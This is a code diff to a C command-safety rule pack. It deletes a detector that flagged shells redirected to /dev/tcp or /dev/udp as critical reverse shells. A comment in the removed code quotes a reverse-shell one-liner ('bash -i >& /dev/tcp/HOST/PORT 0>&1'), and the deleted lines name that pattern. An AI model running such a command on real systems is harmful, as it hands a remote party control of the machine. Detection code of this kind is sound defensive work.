@@ -2,7 +2,6 @@
  * resolved elsewhere and judged by what it does.
  * Sources: python3(1), bash(1), node, deno, php, ruby manuals; Django, Laravel, Rails guides. */
 #include "safety/packs.h"
-#include "safety/shape.h"
 
 #define SHELLS "ash|bash|csh|dash|fish|ksh|mksh|oksh|posh|rbash|sh|tcsh|yash|zsh"
 #define PYTHON "micropython|pypy|pypy3|python|python2|python3"
@@ -157,19 +156,6 @@ static const cm_rule rules[] = {
      "writes its report here"},
 };
 
-/* A shell whose input or output is a connection: bash -i >& /dev/tcp/HOST/PORT 0>&1. */
-static void look(cm_judging *j, const cm_run *run) {
-  if (!cm_glob_any(CM_STR(SHELLS "|pwsh|powershell"), run->program)) return;
-  for (size_t i = 0; i < run->n_redirs; i++) {
-    if (!cm_glob_any(CM_STR("/dev/tcp/*|/dev/udp/*"), run->redirs[i].target.text)) continue;
-    for (size_t w = 1; w < run->n; w++)
-      if (cm_glob_any(CM_STR("-c|-[!-]*c|[!-]*"), run->words[w].text)) return;
-    cm_report(j, "code.reverse-shell", CM_CRITICAL,
-              "gives whoever is at the other end a shell on this machine", run, run->span);
-    return;
-  }
-}
-
 const cm_pack cm_pack_code = {
-    "code", programs, CM_COUNT(programs), rules, CM_COUNT(rules), look,
+    "code", programs, CM_COUNT(programs), rules, CM_COUNT(rules), NULL,
 };
